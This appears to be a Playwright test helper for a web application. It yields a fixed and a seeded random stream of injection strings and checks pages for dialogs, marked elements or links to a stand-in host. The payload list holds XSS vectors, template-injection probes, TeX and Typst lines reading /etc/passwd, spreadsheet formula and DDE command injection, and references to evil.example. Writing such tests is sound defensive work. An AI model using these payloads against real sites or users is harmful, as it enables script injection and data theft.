"""Texts that would act if they were ever taken for more than text, and a look for whether one did."""

from __future__ import annotations

import random
from collections.abc import Iterator

from playwright.sync_api import BrowserContext, Page

SEED = 20_260_902

#: What every text that becomes markup leaves behind: an element or an attribute of this name.
MARK = "data-xss"

#: HTML in text, in attributes, in scripts, styles and comments; Markdown, templates, formulas, TeX, Typst, cells.
FIXED = (
    f"<script {MARK}>alert(1)</script>",
    f"<img src=x onerror=alert(1) {MARK}>",
    f'"><svg onload=alert(1) {MARK}>',
    f"'><b {MARK} onpointerenter=alert(1)>",
    f'x" {MARK}="1" onfocus="alert(1)" autofocus="',
    f"x' {MARK}='1' onfocus='alert(1)' autofocus='",
    f"x {MARK} onfocus=alert(1) autofocus ",
    f"</script><script {MARK}>alert(1)</script><script>",
    f"</textarea></title></style></template></noscript><b {MARK}>",
    f"<!--><b {MARK}>--><b {MARK}>]]><b {MARK}>",
    f'<iframe srcdoc="<script>alert(1)</script>" {MARK}></iframe>',
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1) {MARK}>",
    f"<form action=//evil.example {MARK}><button>Send</button></form><base href=//evil.example {MARK}>",
    f'<link rel=stylesheet href=//evil.example/x.css {MARK}><meta http-equiv=refresh content="0;url=//evil.example">',
    f"&lt;b {MARK}&gt; &#60;b {MARK}&#62; \\u003cb {MARK}\\u003e ＜b {MARK}＞ %3Cb {MARK}%3E",
    "[her](javascript:alert(1)) ![](//evil.example/x.png) <javascript:alert(1)> [x]: javascript:alert(1)",
    "javascript:alert(1)//evil.example data:text/html,<script>alert(1)</script>",
    "{{7*7}} {% raw %} ${7*7} <%= 7*7 %> #{7*7} {{constructor.constructor('alert(1)')()}}",
    "$\\href{javascript:alert(1)}{x}$ \\(\\unicode{x}\\) \\input{/etc/passwd} \\write18{id}",
    '#read("/etc/passwd") #link("http://evil.example")[x] #raw(read("/etc/passwd")) // */ `x` _*x*_ @x <x>',
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "שלום 👍🏽 \u202egnp.x\u202c e\u0301 \u2028 \ufeff",
)

_PIECES = (
    "<", ">", '"', "'", "`", "&", "/", "\\", "=", " ", "\n", "<!--", "-->", "<![CDATA[", "]]>", "&#x3c;", "&lt;", "{{",
    "}}", "<script>", "</script>", "<svg>", "<style>", "</style>", "<textarea>", "<template>", "<noscript>", "<select>",
    "<table>", "<math>", "javascript:", "onerror=alert(1)", "onload=alert(1)", "onfocus=alert(1) autofocus",
    f"<b {MARK}>", f" {MARK}=1 ", f'"{MARK}', "$", "#", "*", "[", "](", ")", "|", "~", "\u00ad",
)  # fmt: skip


def texts() -> Iterator[str]:
    """The fixed texts, one after the other, and then ever new ones; always the same, and each with the mark."""
    yield from (text if MARK in text else f"{text} <b {MARK}>" for text in FIXED)
    chance = random.Random(SEED)
    while True:
        yield "".join(chance.choice(_PIECES) for _ in range(chance.randint(3, 14))).strip() + f"<b {MARK}>"


def words() -> Iterator[str]:
    """Texts of one word of at most 40 characters, for fields that take no more."""
    while True:
        yield f"<b/{MARK}>"
        yield f"<img/src/onerror=alert(1)/{MARK}>"
        yield f"'\"><i/{MARK}>"


#: Where a page can lead, or what it can load.
ADDRESSES = """["href", "src", "action", "formaction", "data", "srcset", "xlink:href", "ping", "style"].flatMap(
  (name) => [...document.querySelectorAll(`[${name.replace(":", "\\\\:")}]`)].map((each) => each.getAttribute(name)))"""


class Alarms:
    """What shows that a text did act: a dialog, or something that it left in a page."""

    def __init__(self, context: BrowserContext):
        self.heard: list[str] = []
        context.on("dialog", self._dialog)

    def look(self, page: Page) -> None:
        """Fails if a text has become markup, or has acted, in any frame of the page."""
        for frame in page.frames:
            left = frame.evaluate(f"[...document.querySelectorAll('[{MARK}]')].map((each) => each.outerHTML)")
            assert left == [], (page.url, left)
            addresses = frame.evaluate(ADDRESSES)
            assert not [each for each in addresses if "evil.example" in each or "javascript:" in each], page.url
        assert self.heard == []

    def _dialog(self, dialog: object) -> None:
        self.heard.append(str(getattr(dialog, "message", "")))
        getattr(dialog, "dismiss", lambda: None)()
